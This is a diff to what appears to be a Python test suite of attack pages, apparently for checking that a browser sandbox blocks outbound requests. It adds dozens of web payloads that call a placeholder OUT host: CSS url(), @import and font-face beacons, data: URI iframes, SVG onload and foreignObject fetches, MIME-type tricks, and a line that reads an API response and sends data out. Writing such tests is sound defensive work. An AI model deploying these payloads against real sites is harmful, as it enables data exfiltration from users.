@@ -15,16 +15,32 @@ _READ = "fetch('API').then(r=>r.text()).then(t=>fetch('OUT/NAME?'+t.length))"
 
 @dataclass(frozen=True, slots=True)
 class Attack:
-    """A page, its type and headers, and whether somebody has to click."""
+    """A page, its type and headers, whether somebody has to click, and what lies beside it: by name, each with its type."""
 
     name: str
     page: str
     mime: str = "text/html"
     headers: list[tuple[str, str]] = field(default_factory=list)
     click: bool = False
+    parts: dict[str, tuple[str, str]] = field(default_factory=dict)
 
     def body(self, out: str, api: str) -> bytes:
         return self.page.replace("OUT", out).replace("API", api).replace("NAME", self.name).encode()
+
+    def beside(self, out: str) -> dict[str, tuple[bytes, str]]:
+        return {
+            name: (text.replace("OUT", out).replace("NAME", self.name).encode(), mime)
+            for name, (text, mime) in self.parts.items()
+        }
+
+
+def _sheet(name: str, css: str, page: str = "<p title=secret>x", mime: str = "text/css") -> Attack:
+    """A page whose stylesheet, which was kept beside it, attacks."""
+    return Attack(name, f"<link rel=stylesheet href={name}.css>{page}", parts={f"{name}.css": (css, mime)})
+
+
+def _svg(name: str, content: str, before: str = "") -> Attack:
+    return Attack(name, f"{before}<svg xmlns='http://www.w3.org/2000/svg'>{content}</svg>", "image/svg+xml")
 
 
 PAGES = [
@@ -109,6 +125,48 @@ PAGES = [
     ),
     Attack("xml", "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>fetch('OUT/NAME')</x:script>", "application/xml"),
     Attack("xml-style", "<?xml-stylesheet type='text/css' href='OUT/NAME'?><a/>", "text/xml"),
+    _sheet("sheet-url", "p{background:url(OUT/NAME)}"),
+    _sheet("sheet-reads", "p[title^=s]{background:url( 'OUT/NAME' )}"),
+    _sheet("sheet-import", "@import 'OUT/NAME';"),
+    _sheet("sheet-import-url", "@IMPORT URL(OUT/NAME) screen;"),
+    _sheet("sheet-import-escape", "@\\69mport 'OUT/NAME';"),
+    _sheet("sheet-font", "@font-face{font-family:f;src:local(x),url(OUT/NAME) format('woff2')}p{font-family:f}"),
+    _sheet("sheet-set", "p{background:-webkit-image-set('OUT/NAME' 1x)}"),
+    _sheet("sheet-cursor", 'p::before{content:url("OUT/NAME")}'),
+    _sheet("sheet-variable", ":root{--a:url(OUT/NAME)}p{background:var(--a)}"),
+    _sheet("sheet-typed-html", "p{background:url(OUT/NAME)}", mime="text/html"),
+    Attack(
+        "sheet-chain",
+        "<link rel=stylesheet href=sheet-chain.css><p>x",
+        parts={
+            "sheet-chain.css": ("@import 'sheet-chain-2.css';", "text/css"),
+            "sheet-chain-2.css": ("p{background:url(OUT/NAME)}", "text/css"),
+        },
+    ),
+    Attack("sheet-data", "<link rel=stylesheet href='data:text/css,p{background:url(OUT/NAME)}'><p>x"),
+    Attack("import-data", "<style>@import 'data:text/css,p{background:url(OUT/NAME)}';</style><p>x"),
+    Attack("iframe-data", "<iframe src=\"data:text/html,<script>fetch('OUT/NAME')</script>\"></iframe>"),
+    Attack("object-data", "<object data=\"data:text/html,<script>fetch('OUT/NAME')</script>\"></object>"),
+    Attack(
+        "svg-kept",
+        "<iframe src=svg-kept.svg></iframe><object data=svg-kept.svg></object>",
+        parts={"svg-kept.svg": ("<svg xmlns='http://www.w3.org/2000/svg' onload=\"fetch('OUT/NAME')\"/>", "image/svg+xml")},
+    ),
+    _svg("svg-import", "<style>@import 'OUT/NAME';</style>"),
+    _svg("svg-font", "<style>@font-face{font-family:f;src:url(OUT/NAME)}text{font-family:f}</style><text y='20'>x</text>"),
+    _svg(
+        "svg-frame",
+        "<foreignObject width='9' height='9'><iframe xmlns='http://www.w3.org/1999/xhtml' src='OUT/NAME'/></foreignObject>",
+    ),
+    _svg("svg-sheet", "", "<?xml-stylesheet type='text/css' href='OUT/NAME'?>"),
+    Attack(
+        "svg-click",
+        "<svg xmlns='http://www.w3.org/2000/svg'><a href='OUT/NAME'><rect width='400' height='300'/></a></svg>",
+        "image/svg+xml",
+        click=True,
+    ),
+    Attack("type-none", "<script>fetch('OUT/NAME')</script>", ""),
+    Attack("type-unknown", "<!DOCTYPE html><script>fetch('OUT/NAME')</script>", "unknown/unknown"),
     Attack("type-in-capitals", "<script>fetch('OUT/NAME')</script>", "TEXT/HTML"),
 ]
 
